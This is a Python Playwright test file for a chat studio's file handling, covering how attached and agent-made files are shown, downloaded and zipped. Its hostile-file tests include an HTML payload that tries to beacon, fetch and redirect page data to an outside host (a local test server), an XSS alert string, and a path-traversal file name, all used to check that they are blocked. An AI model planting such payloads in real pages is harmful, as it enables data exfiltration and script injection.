"""Files in a real browser: attached with the task, seen under the turn that made them, kept, compared; and what hostile
ones cannot do."""

import io
import re
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import FilePayload, Locator, expect

from agents.chats import ChatStarted, FilesChanged, MessagePosted
from agents.workspaces import Workspace
from tests.support.browser import ARTIFACTS
from tests.support.chat_with_files import ADA, HOSTILE, TEAM, chat_with_files
from tests.support.screens import DESKTOP, TELEPHONE, Screen
from tests.support.studio_process import StudioProcess
from tests.support.waiting import wait_until

HOSTILE_PAGE = """<html><head><link rel="stylesheet" href="{outside}/style"></head><body>
<img src="{outside}/image"><iframe src="{outside}/frame"></iframe><div id="said">not yet</div><script>
const tries = [
  () => fetch("{outside}/fetch"), () => new Image().src = "{outside}/pixel", () => navigator.sendBeacon("{outside}/b"),
  () => window.open("{outside}/window"), () => { parent.document.title = "mine"; },
  () => { top.location = "{outside}/top"; }, () => { localStorage.setItem("a", "b"); },
  () => { document.cookie = "a=b"; }, () => fetch("/healthz").then(() => { throw new Error("reached"); }),
];
let refused = 0;
for (const act of tries) { try { const made = act(); made?.catch?.(() => {}); } catch { refused += 1; } }
document.getElementById("said").textContent = "ran";
setTimeout(() => { location.href = "{outside}/left?with=" + encodeURIComponent(location.href); }, 100);
</script></body></html>"""

OVER = """(button, { x, y, width }) => {
  const at = { left: `${x}px`, top: `${y}px`, width: `${width}px`, bottom: "auto", margin: 0 };
  Object.assign(button.style, { position: "fixed", ...at });
  button.hidden = false;
}"""
"""Shows a button over that part of the screen."""


@contextmanager
def outside() -> Iterator[tuple[str, list[str]]]:
    """Another server, and what was asked of it."""
    asked: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Nothing is printed."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    thread = threading.Thread(target=server.serve_forever, args=[0.01])
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture(scope="module")
def chat(studio: StudioProcess) -> str:
    with studio.data() as data:
        return chat_with_files(data, "files-journey")


def opened(open_screen, chat: str, **how) -> Screen:
    screen: Screen = open_screen(**how)
    screen.open(f"/chat?chat={chat}")
    expect(screen.page.locator(".files").first).to_be_attached()
    return screen


def is_drawn(image: Locator) -> bool:
    return bool(image.evaluate("(image) => image.complete && image.naturalWidth > 0"))


def see_the_picture(screen: Screen) -> None:
    """Scrolls to it and waits until it has its size; then what stands around it stays where it is."""
    image = screen.page.locator(".files img")
    image.scroll_into_view_if_needed()
    wait_until(lambda: is_drawn(image), what="the picture is drawn")


def open_files(screen: Screen) -> Locator:
    return screen.show("Files")


class TestTheTranscript:
    @pytest.mark.parametrize(("name", "viewport"), [("desk", DESKTOP), ("telephone", TELEPHONE)])
    @pytest.mark.parametrize("color_scheme", ["light", "dark"])
    def test_code_and_files_stand_under_the_turn_that_made_them(self, open_screen, chat, name, viewport, color_scheme):
        screen = opened(open_screen, chat, viewport=viewport, color_scheme=color_scheme)
        cards = screen.page.locator(".log > *")
        kinds = cards.evaluate_all("(all) => all.map((one) => one.className.split(' ')[0])")
        assert kinds == ["message", "files", "message", "tool", "files", "tool", "files", "message", "line-entry"]
        see_the_picture(screen)
        code = screen.page.locator(".tool.run").first
        expect(code.locator(".outcome")).to_have_text("done after 1.4 s")
        code.locator("summary").click()
        expect(code.locator(".output")).not_to_contain_text("line 39")
        code.get_by_role("button", name="Show all").click()
        expect(code.locator(".output")).to_contain_text("line 39")
        screen.expect_no_sideways_scrolling()
        screen.shot(ARTIFACTS / f"files-{name}-{color_scheme}.png")

    def test_a_press_is_the_cards_though_the_button_to_the_latest_comes_under_it_meanwhile(self, open_screen, chat):
        screen = opened(open_screen, chat)
        see_the_picture(screen)
        code, latest = screen.page.locator(".tool.run").first, screen.page.locator(".latest")
        summary = code.locator("summary")
        summary.evaluate("(summary) => summary.scrollIntoView({ block: 'center' })")
        expect(latest).to_be_visible()
        summary.hover()
        screen.page.mouse.down()
        latest.evaluate(OVER, summary.bounding_box())
        screen.page.mouse.up()
        expect(code).to_have_attribute("open", "")
        latest.click()
        expect(latest).to_be_hidden()

    def test_a_file_is_kept_by_a_click_on_its_name(self, open_screen, chat):
        screen = opened(open_screen, chat)
        with screen.page.expect_download() as download:
            screen.page.locator(".files a.name", has_text="report.pdf").click()
        assert download.value.suggested_filename == "report.pdf"
        assert download.value.path().read_bytes().startswith(b"%PDF")

    def test_a_chart_that_wants_plotly_from_elsewhere_is_drawn_with_ours(self, open_screen, chat):
        screen = opened(open_screen, chat)
        screen.page.locator(".chart summary").click()
        chart = screen.page.frame_locator(".chart iframe").frame_locator("iframe")
        expect(chart.locator(".bars .point")).to_have_count(3)
        assert not [address for address in screen.requested if "plot.ly" in address]


class TestTheFiles:
    def test_each_file_is_shown_as_what_it_is(self, open_screen, chat):
        screen = opened(open_screen, chat)
        panel = open_files(screen)

        def look(name: str) -> None:
            screen.settle()  # a button that is drawn anew between press and release hears neither
            panel.get_by_role("button", name=re.compile(re.escape(name))).click()
            expect(panel.get_by_role("button", name=re.compile("All files"))).to_be_visible()

        def back() -> None:
            screen.settle()
            panel.get_by_role("button", name=re.compile("All files")).click()
            expect(panel.get_by_text("6 files")).to_be_visible()

        look("chart.png")
        wait_until(lambda: is_drawn(panel.locator("img")), what="the picture is drawn")
        back()
        look("sales.csv")
        expect(panel.get_by_test_id("stDataFrame")).to_be_visible()
        back()
        look("notes.md")
        panel.get_by_text("Changes", exact=True).click()
        expect(panel.get_by_text("+Sales rise in May.")).to_be_visible()
        back()
        look("report.pdf")
        expect(panel.locator("iframe.framed")).to_be_visible()
        screen.expect_no_traceback()

    def test_all_files_come_as_one_zip(self, open_screen, chat):
        screen = opened(open_screen, chat)
        panel = open_files(screen)
        link = panel.get_by_role("link", name=re.compile("Download all"))
        answer = screen.page.request.get(link.evaluate("(link) => link.href"))
        with zipfile.ZipFile(io.BytesIO(answer.body())) as archive:
            assert {"chart.png", "report.pdf", "sales.csv"} <= set(archive.namelist())

    def test_a_file_is_attached_and_the_list_stays_open(self, open_screen, studio):
        with studio.data() as data:
            chat = chat_with_files(data, "files-attaching")
        screen = opened(open_screen, chat)
        panel = open_files(screen)
        content: FilePayload = {"name": "../more<b>.csv", "mimeType": "text/csv", "buffer": b"a,b\n1,2\n"}
        panel.locator('input[type="file"]').set_input_files(content)
        expect(panel.get_by_text("more<b>.csv")).to_be_visible()
        panel.get_by_role("button", name=re.compile("Attach$")).click()
        expect(panel.get_by_role("button", name="more_b_.csv", exact=True)).to_be_visible()
        expect(panel.get_by_text("7 files")).to_be_visible()
        expect(screen.page.locator(".files").last).to_contain_text("attached a file")

    def test_a_chat_without_files_says_what_will_be_here(self, open_screen, studio):
        with studio.data() as data:
            team = TEAM.model_dump(mode="json")
            events = [
                ChatStarted(team=team, task="Hi.", by=ADA),
                MessagePosted(turn=0, agent="user", content="Hi.", source="task", by=ADA),
            ]
            data.store.chats.create("files-none", events, client_id="n", team_id=None, revision=None, title="Hi")
        screen = open_screen()
        screen.open("/chat?chat=files-none")
        expect(open_files(screen).get_by_text("No files yet")).to_be_visible()


class TestHostileFiles:
    def test_a_name_is_text_wherever_it_stands(self, open_screen, chat):
        screen = opened(open_screen, chat)
        said: list[str] = []
        screen.page.on("dialog", lambda dialog: said.append(dialog.message))
        name = HOSTILE.replace("\u202e", "\\u202e")
        expect(screen.page.locator(".files .name", has_text=name)).to_be_visible()
        panel = open_files(screen)
        panel.get_by_role("button", name=re.compile(re.escape(name))).click()
        expect(panel.get_by_text("<script>alert(1)</script>")).to_be_visible()
        screen.expect_no_traceback()
        assert said == []

    def test_a_page_made_by_code_reaches_nobody_and_nothing_of_ours(self, open_screen, studio: StudioProcess):
        with outside() as (address, asked), studio.data() as data:
            chat = chat_with_files(data, "files-hostile")
            page = HOSTILE_PAGE.replace("{outside}", address)
            taken = Workspace(data.settings.home, chat).save("evil.html", page.encode())
            fence = data.store.chats.begin_leg(chat, "w")
            data.store.chats.append(
                chat, FilesChanged(turn=3, agent="executor", cause="b0", changes=[taken]), fence=fence
            )
            screen = opened(open_screen, chat)
            title = screen.page.title()
            screen.page.locator(".chart summary", has_text="evil.html").click()
            inside = screen.page.frame_locator(".chart iframe").last.frame_locator("iframe")
            expect(inside.get_by_text("pages that agents made are not run here")).to_be_visible()
            assert screen.page.title() == title
            assert asked == []
            assert screen.page.url.endswith(f"chat={chat}")


class TestStarting:
    def test_files_come_with_the_task(
        self,
        open_screen,
        studio: StudioProcess,
    ):
        screen = open_screen()
        screen.open("/chat")
        screen.press("New chat")
        dialog = screen.page.get_by_role("dialog")
        dialog.get_by_label("Task", exact=True).fill("Look at the data.")
        content: FilePayload = {"name": "data.csv", "mimeType": "text/csv", "buffer": b"a,b\n1,2\n"}
        dialog.locator('input[type="file"]').set_input_files(content)
        expect(dialog.get_by_text("data.csv")).to_be_visible()
        screen.press("Start", dialog)
        expect(screen.page.locator(".message.task")).to_contain_text("columns: a, b")
        expect(screen.page.locator(".files").first).to_contain_text("attached a file")
        screen.shot(ARTIFACTS / "files-started.png")
